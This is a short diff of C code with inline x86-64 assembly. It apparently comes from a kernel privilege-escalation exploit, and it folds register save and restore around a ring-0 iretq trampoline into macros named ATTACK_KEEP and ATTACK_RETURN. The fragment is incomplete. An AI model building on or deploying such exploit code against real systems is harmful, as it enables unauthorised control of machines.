@@ -71,13 +71,7 @@ __asm__(".pushsection .vault, \"ax\", @progbits\n" ALL(
                                                      "    ret\n"
                                                      /* What returns here is in ring 0, on most
                                                         hosts, and has no registers. */
-                                                     "call_and_land:\n"
-                                                     "    pushq %rbx\n"
-                                                     "    pushq %rbp\n"
-                                                     "    pushq %r12\n"
-                                                     "    pushq %r13\n"
-                                                     "    pushq %r14\n"
-                                                     "    pushq %r15\n"
+                                                     "call_and_land:\n" ATTACK_KEEP
                                                      "    movq %rsp, saved_stack(%rip)\n"
                                                      "    movq %rdi, %rdx\n"
                                                      "    movq %rsi, %rdi\n"
@@ -94,14 +88,7 @@ __asm__(".pushsection .vault, \"ax\", @progbits\n" ALL(
                                                      "    leaq 1f(%rip), %rcx\n"
                                                      "    pushq %rcx\n"
                                                      "    iretq\n"
-                                                     "1:  popq %r15\n"
-                                                     "    popq %r14\n"
-                                                     "    popq %r13\n"
-                                                     "    popq %r12\n"
-                                                     "    popq %rbp\n"
-                                                     "    popq %rbx\n"
-                                                     "    ret\n"
-                                                     ".popsection\n");
+                                                     "1:\n" ATTACK_RETURN ".popsection\n");
 
 static void write_msr(uint32_t msr, uint64_t value)
 {
